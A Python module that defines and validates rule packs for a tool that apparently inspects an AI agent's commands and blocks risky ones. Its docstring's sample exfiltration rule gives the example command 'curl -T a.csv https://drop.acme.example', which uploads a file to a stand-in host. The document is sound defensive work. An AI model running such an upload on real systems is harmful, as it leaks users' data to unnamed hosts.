"""The form of a pack: rules as data with examples beside them, and lists. TOML, read as structures.

    [[rule]]
    id = "acme/no-uploads"
    kinds = ["send", "send-secret"]          which facts it speaks of (inspection/facts.py)
    class = "exfiltration"
    severity = "high"
    mode = "block"
    host = "named"
    reason = {en = "sends data to a host that nobody named", zh = "…"}
    examples = [{run = "curl -T a.csv https://drop.acme.example"}]
    misses = [{run = "curl https://drop.acme.example", user = "look at drop.acme.example"}]

    [modes]                                  what becomes of rules that other packs brought
    "packages/unknown" = "note"

    [lists.hosts-known]
    names = '''
    tools.acme.example
    '''

A rule of code names its `check` instead of kinds; only the pack that ships has such.
"""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterator, Mapping
from typing import Annotated, Any, Literal

import msgspec
from msgspec import Meta, Struct, field

from posthouse.inspection.facts import Kind
from posthouse.inspection.listed import MALICIOUS, SHIPPED_LISTS, Listing
from posthouse.model.errors import PackRefused

LONGEST = 16 * 1024 * 1024
OWN = "posthouse"
"""The pack that ships; its rules stand under no name of its own."""
_FIXED = (
    *("hidden/", "links/image", "text/escape", "inspection/", "key/", "witness/"),
    "commands/too-long",
)
"""What stays as it is, whatever a pack says."""

Mode = Literal["block", "ask", "note"]
Identifier = Annotated[str, Meta(pattern=r"^[a-z0-9][a-z0-9-]{0,39}/[a-z0-9][a-z0-9-]{0,59}$")]
Pattern = Annotated[str, Meta(max_length=4000)]


class Reason(Struct, frozen=True, forbid_unknown_fields=True):
    """What a rule says of what it stops: it ends the sentence `it …`."""

    en: Annotated[str, Meta(min_length=3, max_length=200)]
    zh: Annotated[str, Meta(min_length=2, max_length=200)]


class Near(Struct, frozen=True, forbid_unknown_fields=True):
    """Where a fact touches `what`, only these words of the user explain it."""

    what: Pattern
    topic: Pattern


class Example(Struct, frozen=True, forbid_unknown_fields=True):
    """One call or one text, and what the user had asked for.

    `run`: a command; `write`: a file, with `content`; `tool`: any tool, with `given`; `text`: what
    an answer says. `before`: commands of earlier calls; `tools`: those that were offered;
    `times`: how often `run` stands there behind itself.
    """

    run: str = ""
    write: str = ""
    content: str = ""
    tool: str = ""
    given: dict[str, Any] = field(default_factory=dict)
    text: str = ""
    user: str = "Fix the failing test"
    before: tuple[str, ...] = ()
    tools: tuple[str, ...] = ()
    times: Annotated[int, Meta(ge=1, le=50_000)] = 1


class Row(Struct, frozen=True, forbid_unknown_fields=True, omit_defaults=True):
    """One rule. `subject`, `detail`, `version`: patterns that the fact's own must hold.

    What explains a fact: `host` "named" where only a named host does, "known" where a well-known
    one does too, "spoken" where one that was spoken of does as well, "ordinary" where any that is
    not made to be mistaken does; `topic`: words of the user, but for `changes` no request to be
    shown something; `quiet`: that nothing is known of what was asked for.
    """

    id: Identifier
    reason: Reason
    kinds: tuple[str, ...] = ()
    check: str = ""
    kind_class: str = field(name="class", default="other")
    severity: Literal["low", "medium", "high", "critical"] = "medium"
    mode: Mode = "ask"
    subject: Pattern = ""
    detail: Pattern = ""
    version: Pattern = ""
    host: Literal["", "named", "known", "spoken", "ordinary"] = ""
    topic: Pattern = ""
    quiet: bool = False
    changes: bool = False
    near: tuple[Near, ...] = ()
    examples: tuple[Example, ...] = ()
    misses: tuple[Example, ...] = ()


class ListRow(Struct, frozen=True, forbid_unknown_fields=True):
    """One list: names with white space between them, or lines of harmful packages."""

    names: str
    replaces: bool = False


class Body(Struct, frozen=True, forbid_unknown_fields=True):
    """What a pack holds."""

    rule: tuple[Row, ...] = ()
    modes: dict[str, Mode] = field(default_factory=dict)
    lists: dict[str, ListRow] = field(default_factory=dict)


class Pack(Struct, frozen=True):
    """A pack as it is in force: its name, a version that only rises, SHA-256 of its body."""

    name: str
    version: int
    digest: str
    body: Body

    @property
    def told(self) -> str:
        """Return what receipts say of it."""
        return f"{self.name} {self.version} {self.digest[:16]}"


def parse(name: str, version: int, data: bytes) -> Pack:
    """Return a pack from its body; every part of it is checked. Raises PackRefused."""
    if len(data) > LONGEST:
        raise PackRefused(f"expected a pack of at most {LONGEST} bytes, found {len(data)}")
    try:
        body = msgspec.toml.decode(data, type=Body)
    except (msgspec.DecodeError, UnicodeDecodeError, RecursionError) as error:
        raise PackRefused(
            f"the pack {name} cannot be read: {error}",
            hint="docs/rules.md shows the form of a pack",
        ) from None
    for problem in _problems(name, body):
        raise PackRefused(f"the pack {name}: {problem}", hint="docs/rules.md shows its form")
    return Pack(name, version, hashlib.sha256(data).hexdigest(), body)


def _problems(name: str, body: Body) -> Iterator[str]:
    seen: set[str] = set()
    for row in body.rule:
        if row.id in seen:
            yield f"expected one rule of each id, found {row.id} twice"
        seen.add(row.id)
        if name != OWN and not row.id.startswith(f"{name}/"):
            yield f"expected rules named {name}/…, found {row.id}"
        yield from (f"the rule {row.id}: {problem}" for problem in _of_row(name, row))
    for rule in body.modes:
        if rule.startswith(_FIXED):
            yield f"expected a rule whose mode can be changed, found {rule[:80]}"
    for listing in body.lists:
        if listing not in (*SHIPPED_LISTS, MALICIOUS):
            yield f"expected a list that is known, found {listing}"
    yield from (f"the list {MALICIOUS}: {problem}" for problem in _of_harm(body))


def _of_row(name: str, row: Row) -> Iterator[str]:
    unknown = [kind for kind in row.kinds if kind not in KINDS]
    if unknown:
        yield f"expected kinds of facts, found {unknown[0][:40]}"
    if name != OWN and (row.check or not row.kinds):
        yield (
            "expected kinds of facts, found a check in code"
            if row.check
            else ("expected at least one kind of fact, found none")
        )
    if name != OWN and (not row.examples or not row.misses):
        yield "expected an example and a near miss, found none"
    for pattern in (row.subject, row.detail, row.version, row.topic, *_patterns(row.near)):
        try:
            re.compile(pattern)
        except re.error as error:
            yield f"expected a regular expression, found one that fails: {error}"


def _patterns(near: tuple[Near, ...]) -> Iterator[str]:
    for one in near:
        yield from (one.what, one.topic)


def _of_harm(body: Body) -> Iterator[str]:
    listed = body.lists.get(MALICIOUS)
    for line in listed.names.splitlines() if listed else ():
        if line.strip() and len(line.split()) != 4:
            yield "expected lines of ecosystem, name, versions or *, and source, found another"
            return


def listings(packs: tuple[Pack, ...]) -> Mapping[str, Listing]:
    """Return what packs say of lists; a later pack's word stands behind an earlier one's."""
    found: dict[str, Listing] = {}
    for pack in packs:
        for name, row in pack.body.lists.items():
            if name == MALICIOUS:
                continue
            before = found.get(name, Listing(()))
            names = tuple(row.names.split())
            kept = () if row.replaces else before.names
            found[name] = Listing((*kept, *names), before.replaces or row.replaces)
    return found


def harmful(packs: tuple[Pack, ...]) -> tuple[bytes, ...]:
    """Return the harmful packages that packs name, as inspection/advisories.py reads them."""
    texts = []
    for pack in packs:
        rows = pack.body.lists.get(MALICIOUS)
        lines = [line.split() for line in rows.names.splitlines() if line.strip()] if rows else []
        if lines:
            told = sorted(
                "\t".join((system, named, "" if span == "*" else span, source)).encode()
                for system, named, span, source in lines
            )
            texts.append(b"\n".join(told) + b"\n")
    return tuple(texts)


KINDS: Mapping[str, Kind] = {kind.name.lower().replace("_", "-"): kind for kind in Kind}
"""Kinds of facts by the names that packs use."""
